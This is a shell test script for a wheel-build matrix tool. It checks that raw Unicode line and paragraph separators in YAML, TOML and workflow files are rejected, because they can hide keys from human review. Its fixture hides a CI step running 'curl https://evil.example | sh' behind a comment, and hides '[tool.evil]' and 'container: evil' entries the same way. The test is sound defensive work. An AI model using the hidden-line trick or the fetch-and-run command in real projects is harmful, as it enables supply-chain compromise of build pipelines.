#!/bin/bash
# t-line-separators.sh — a raw NEL, LINE SEPARATOR or PARAGRAPH SEPARATOR is refused at its place in the matrix file, in pyproject.toml and Cargo.toml, and in a workflow init reads.
#
# YAML 1.1 readers (libyaml, PyYAML) break a line at U+0085, U+2028 and U+2029; editors, terminals,
# `git diff` and YAML 1.2 readers do not.  So `features: [cublas]  # a comment<U+2028>    setup: ...`
# shows as one line with a comment in review while libyaml reads a `setup:` key after it.  PyYAML
# proves here that the hidden key is real; git shows that a review sees one line.
. "$ROOT/tests/kit/lib.sh"
# shellcheck source=tests/kit/python-env.sh
. "$ROOT/tests/kit/python-env.sh"

LS=$'\xe2\x80\xa8' PS=$'\xe2\x80\xa9' NEL=$'\xc2\x85'

matrix() {  # matrix SEPARATOR: the issue's matrix, a setup step hidden after a comment
	printf 'wheelmatrix: 1\npython:\n  versions: ["3.12"]\nplatforms: [linux-x86_64]\nbackends:\n'
	printf '  cuda:\n    features: [cublas]   # the CUDA build%s    setup: {github: {linux: [{run: "curl https://evil.example | sh"}]}}\n' "$1"
	printf '  cpu: {default: true}\nci:\n  github: {path: .github/workflows/wheels.yml}\n'
}

for sep in LS PS NEL; do
	r=$tmp/$sep
	demo_project "$r"
	matrix "${!sep}" >"$r/wheelmatrix.yaml"
	# the threat: a YAML 1.1 reader finds the step, a review sees one line of 10 in the file
	"$py" -c 'import sys, yaml; d = yaml.safe_load(open(sys.argv[1], encoding="utf-8")); sys.exit(0 if "setup" in d["backends"]["cuda"] else 1)' \
		"$r/wheelmatrix.yaml" || fail "$sep: PyYAML does not read the hidden key: the case proves nothing"
	[ "$(wc -l <"$r/wheelmatrix.yaml")" = 10 ] || fail "$sep: the file is not 10 lines to a line counter"
	case $sep in LS) name="LINE SEPARATOR (U+2028)" ;; PS) name="PARAGRAPH SEPARATOR (U+2029)" ;; NEL) name="NEXT LINE (U+0085)" ;; esac
	for cmd in generate list check; do
		[ "$cmd" != check ] || { scratch_repo "$r"; commit_all "$r"; }
		wm -C "$r" $cmd
		expect_status 2 "$sep: $cmd"
		expect_err "wheelmatrix.yaml:7:42: error: a raw $name: YAML readers such as this one break the line here" "$sep: $cmd"
	done
	[ ! -e "$r/.github" ] || fail "$sep: generate wrote the workflow"
done

# escaped in a double-quoted string it is a character of the value, which every reader reads alike
r=$tmp/escaped
demo_project "$r"
printf 'wheelmatrix: 1\npython:\n  versions: ["3.12"]\nplatforms: [linux-x86_64]\nbackends:\n  cuda: {features: [cublas], env: {NOTE: "a\\Lb"}}\n  cpu: {default: true}\nci:\n  github: {path: .github/workflows/wheels.yml}\n' >"$r/wheelmatrix.yaml"
wm -C "$r" generate
expect_status 0 "an escaped LINE SEPARATOR"
"$py" -c 'import sys, yaml; d = yaml.safe_load(open(sys.argv[1], encoding="utf-8")); v = [j["env"]["NOTE"] for j in d["jobs"].values() if "NOTE" in (j.get("env") or {})]; sys.exit(0 if v and all(x == "a\u2028b" for x in v) else 1)' \
	"$r/.github/workflows/wheels.yml" || fail "an escaped LINE SEPARATOR does not reach the jobs' env as U+2028"

# pyproject.toml and Cargo.toml: a comment that would end early in some editors
for file in pyproject.toml Cargo.toml; do
	r=$tmp/toml-$file
	demo_project "$r"
	printf '# the build%s[tool.evil]\n' "$LS" >>"$r/$file"
	line=$(wc -l <"$r/$file")
	for cmd in list generate; do
		wm -C "$r" $cmd
		expect_status 2 "$file: $cmd"
		expect_err "$file:$line:12: error: a raw LINE SEPARATOR (U+2028): some editors and review tools break the line here" "$file: $cmd"
	done
done

# init: the project's pyproject.toml and the workflows it reads
r=$tmp/init
demo_project "$r"
rm "$r/wheelmatrix.yaml"
mkdir -p "$r/.github/workflows"
printf 'on: push\njobs:\n  wheels:\n    runs-on: ubuntu-latest   # linux%s    container: evil\n    steps:\n      - uses: PyO3/maturin-action@v1\n        with: {command: build}\n' "$PS" >"$r/.github/workflows/release.yml"
scratch_repo "$r"
commit_all "$r"
wm -C "$r" init
expect_status 2 "init with a workflow"
expect_err ".github/workflows/release.yml:4:37: error: a raw PARAGRAPH SEPARATOR (U+2029)" "init with a workflow"
[ ! -e "$r/wheelmatrix.yaml" ] || fail "init wrote a matrix from a workflow with a hidden line"
sed -i "s/$PS/ /" "$r/.github/workflows/release.yml"
printf '# x%s[tool.evil]\n' "$NEL" >>"$r/pyproject.toml"
line=$(wc -l <"$r/pyproject.toml")
wm -C "$r" init
expect_status 2 "init with a pyproject.toml"
expect_err "pyproject.toml:$line:4: error: a raw NEXT LINE (U+0085)" "init with a pyproject.toml"
finish
